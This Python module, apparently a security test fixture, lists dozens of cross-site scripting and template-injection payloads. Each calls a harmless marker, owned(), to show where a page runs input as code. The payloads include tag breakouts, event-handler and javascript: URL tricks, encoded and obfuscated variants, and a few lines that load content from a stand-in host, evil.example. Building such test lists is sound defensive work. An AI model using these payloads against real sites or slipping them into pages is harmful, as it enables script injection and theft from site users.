"""Texts that run as code where a page takes them for more than text. Each says so with `owned()`, wherever it lands."""

_RUNS = "owned()"
SCRIPTS = [text.replace("RUN", _RUNS) for text in (
    "<script>RUN</script>", "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>",
    "--><script>RUN</script>", "]]><script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script\t>RUN</script >", "<scr<script>ipt>RUN</script>",
    "<script/x>RUN</script>", "<script>RUN//", "</script><script>RUN</script>", "';RUN//", "\";RUN//", "\\';RUN//", "\\\";RUN//", "`;RUN;`", "${RUN}",
    "{{RUN}}", "{{constructor.constructor('RUN')()}}", "<%= RUN %>", "{% RUN %}", "#{RUN}", "[[RUN]]", "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>", "<img/src/onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<img src=`x`onerror=RUN>", "<img src onerror=RUN//",
    "\"><img src=x onerror=RUN>", "'><img src=x onerror=RUN>", "x\" onmouseover=\"RUN\" y=\"", "x' onmouseover='RUN' y='",
    "x\" autofocus onfocus=\"RUN", "x' autofocus onfocus='RUN", "x autofocus onfocus=RUN", "\" style=\"animation:x\" onanimationstart=\"RUN",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a href=javascript:RUN>x", "<math><mtext></p><img src=x onerror=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>",
    "<iframe src=javascript:RUN>", "<iframe srcdoc='<script>RUN</script>'>", "<object data=javascript:RUN>", "<embed src=javascript:RUN>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<video><source onerror=RUN>", "<audio src onerror=RUN>",
    "<details open ontoggle=RUN>", "<marquee onstart=RUN>", "<a href=javascript:RUN>x</a>", "<form action=javascript:RUN><button>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=javascript:RUN>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'", "<div hx-get=/ hx-trigger=load hx-on::load=RUN>", "<div hx-on:click=RUN data-hx-trigger=load>",
    "<div style=background:url(javascript:RUN)>", "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "data:text/html,<script>RUN</script>",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script>RUN&#60;/script>", "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "＜script＞RUN＜/script＞", "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><script>RUN</script></template>", "<x contenteditable onfocus=RUN autofocus>", "\u202e<script>RUN</script>",
)]  # fmt: skip
